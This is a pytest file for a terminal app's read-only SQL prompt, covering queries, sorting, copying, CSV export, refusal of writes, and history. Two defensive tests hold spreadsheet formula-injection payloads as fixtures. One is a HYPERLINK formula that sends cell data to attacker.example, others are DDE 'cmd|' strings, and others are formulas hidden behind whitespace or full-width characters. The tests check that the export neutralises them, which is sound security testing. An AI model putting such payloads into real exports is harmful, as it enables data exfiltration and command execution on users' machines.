"""`:` the read-only SQL prompt on a generated example (the real app, the real cluster): a
statement typed and run shows the rows the read-only role reads, sorts by a column, copies a
value (honestly: no terminal here), writes CSV; a statement the tool refuses and one the
server refuses are said in place and write nothing; the history survives the app."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import DataTable, Static, TextArea

from tests.tui.test_tui import SMALL, ready, sync, wait_until
from workbench.engine import Engine
from workbench.screens.app import make_app
from workbench.screens.sql import SqlScreen

STATUSES = "SELECT status, count(*) AS n FROM orders GROUP BY status"


@pytest.fixture
def generated(make_project) -> Path:  # type: ignore[no-untyped-def]
    path = make_project(None, extra=SMALL)
    Engine(path).generate(keep_snapshot=False)
    return path


async def _run(pilot: Any, screen: SqlScreen, statement: str) -> str:
    """Type `statement` in the editor (replacing what it held), run it, wait for the end."""
    editor = screen.query_one(TextArea)
    editor.focus()
    editor.clear()
    await pilot.press(*statement)
    assert editor.text == statement
    before = screen.state.result
    status = screen.query_one("#sql-status", Static)
    await pilot.press("ctrl+j")
    await wait_until(
        pilot,
        lambda: (
            not screen.running and (screen.state.result is not before or status.has_class("-error"))
        ),
    )
    return str(status.render())


@sync
async def test_read_only_queries_sort_copy_csv_and_errors_in_place(generated: Path) -> None:
    with Engine(generated).connect() as conn:
        counts = dict(conn.execute(STATUSES).fetchall())
        orders = conn.execute("SELECT count(*) FROM orders").fetchone()[0]
    app = make_app(generated)
    async with app.run_test(size=(120, 36), notifications=True) as pilot:
        await ready(pilot)
        await pilot.press("colon")
        await wait_until(pilot, lambda: isinstance(app.screen, SqlScreen) and app.screen.is_mounted)
        screen = app.screen
        assert isinstance(screen, SqlScreen)

        said = await _run(pilot, screen, STATUSES)
        result = screen.state.result
        assert result is not None and result.columns == ["status", "n"]
        assert {row[0]: row[1] for row in result.rows} == counts
        assert f"{len(counts)} rows in" in said and "read-only role, rolled back" in said
        table = screen.query_one(DataTable)
        assert table.row_count == len(counts)

        # s sorts by the cursor's column, again the other way
        table.focus()
        await pilot.press("l")  # to the n column
        await pilot.press("s")  # a letter waits a moment: it may start a word
        await wait_until(pilot, lambda: [r[1] for r in screen._rows] == sorted(counts.values()))
        await pilot.press("s")
        await wait_until(
            pilot, lambda: [r[1] for r in screen._rows] == sorted(counts.values(), reverse=True)
        )
        # y copies the value under the cursor (no terminal here: said, kept for the app only)
        await pilot.press("y")
        await wait_until(pilot, lambda: app.clipboard != "")
        assert app.clipboard == str(screen._rows[table.cursor_row][1])
        notes = [n.message for n in app._notifications]
        assert any("No terminal to copy through" in n for n in notes), notes
        # x writes the result as CSV beside sandbox.toml
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: any(n.title == "CSV written" for n in app._notifications))
        files = list(generated.parent.glob("query-*.csv"))
        assert len(files) == 1
        with files[0].open() as handle:
            written = list(csv.reader(handle))
        assert written[0] == ["status", "n"]
        assert {r[0]: int(r[1]) for r in written[1:]} == counts

        # the tool refuses a write before sending it; the server refuses a wrong column
        said = await _run(pilot, screen, "DELETE FROM orders")
        status = screen.query_one("#sql-status", Static)
        assert status.has_class("-error") and "only statements that return rows" in said
        said = await _run(pilot, screen, "SELECT nope FROM orders")
        assert status.has_class("-error") and 'column "nope" does not exist' in said
        assert isinstance(app.screen, SqlScreen)  # in place: no dialog over the prompt
        # a row cap: 1,000 rows at most, and said
        said = await _run(pilot, screen, "SELECT g FROM generate_series(1, 1500) g")
        assert len(screen.state.result.rows) == 1000 and "first 1,000 are shown" in said

        # ctrl+↑ brings back the statements run, the last first
        screen.query_one(TextArea).focus()
        await pilot.press("ctrl+up")
        assert screen.query_one(TextArea).text == "SELECT g FROM generate_series(1, 1500) g"
        await pilot.press("ctrl+up")
        assert screen.query_one(TextArea).text == "SELECT nope FROM orders"
        await pilot.press("escape")
        assert not isinstance(app.screen, SqlScreen)
    with Engine(generated).connect() as conn:
        assert conn.execute("SELECT count(*) FROM orders").fetchone()[0] == orders

    # a new session: the history is kept, and the prompt starts empty
    app = make_app(generated)
    async with app.run_test(size=(120, 36)) as pilot:
        await ready(pilot)
        await pilot.press("colon")
        await wait_until(pilot, lambda: isinstance(app.screen, SqlScreen) and app.screen.is_mounted)
        screen = app.screen
        await wait_until(pilot, lambda: bool(screen.history))
        await pilot.press("ctrl+up")
        assert screen.query_one(TextArea).text == "SELECT g FROM generate_series(1, 1500) g"


# attack22e E27: rows an agent wrote that a spreadsheet would run as formulas
FORMULAS = (
    'SELECT v, -5 AS n FROM (VALUES (\'=HYPERLINK("http://attacker.example/?"&A1,"x")\'), '
    "('@SUM(1+1)*cmd|'' /C calc''!A0'), ('+1+cmd|'' /C calc''!A0'), ('-2+3'), "
    "(E'\\tTAB'), (E'\\rCR'), ('plain = text'), (NULL)) AS r(v)"
)


def test_the_csv_export_writes_formulas_as_text(generated: Path) -> None:
    prompt = Engine(generated).prompt
    result = prompt.run(FORMULAS)
    assert result.rows[0][0].startswith("=HYPERLINK")
    with prompt.export(result).open(newline="") as handle:
        written = list(csv.reader(handle))
    assert written[0] == ["v", "n"]
    assert [r[0] for r in written[1:]] == [
        '\'=HYPERLINK("http://attacker.example/?"&A1,"x")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'\tTAB",
        "'\rCR",
        "plain = text",
        "",
    ]
    assert {r[1] for r in written[1:]} == {"-5"}  # a number stays a number


# attack22f F7: formulas behind white space, in full-width and small forms, after LF or VT
HIDDEN = (
    "SELECT v FROM (VALUES ('=1+1'), ('@SUM(1)'), (' =1+1'), (chr(160) || '=1'), "
    "(chr(65309) || '1'), (chr(65126) || '1'), (chr(10) || '=1'), (chr(11) || 'x'), "
    "('plain = text')) AS r(v)"
)


@sync
async def test_ctrl_s_writes_hidden_formulas_as_text(generated: Path) -> None:
    app = make_app(generated)
    async with app.run_test(size=(120, 36), notifications=True) as pilot:
        await ready(pilot)
        await pilot.press("colon")
        await wait_until(pilot, lambda: isinstance(app.screen, SqlScreen) and app.screen.is_mounted)
        screen = app.screen
        assert isinstance(screen, SqlScreen)
        await _run(pilot, screen, HIDDEN)
        assert screen.state.result is not None and len(screen.state.result.rows) == 9
        screen.query_one(DataTable).focus()
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: any(n.title == "CSV written" for n in app._notifications))
    (written_file,) = generated.parent.glob("query-*.csv")
    with written_file.open(newline="") as handle:
        written = [row[0] for row in csv.reader(handle)][1:]
    assert written == [
        "'=1+1",
        "'@SUM(1)",
        "' =1+1",
        "'\u00a0=1",
        "'\uff1d1",
        "'\ufe661",
        "'\n=1",
        "'\x0bx",
        "plain = text",
    ]
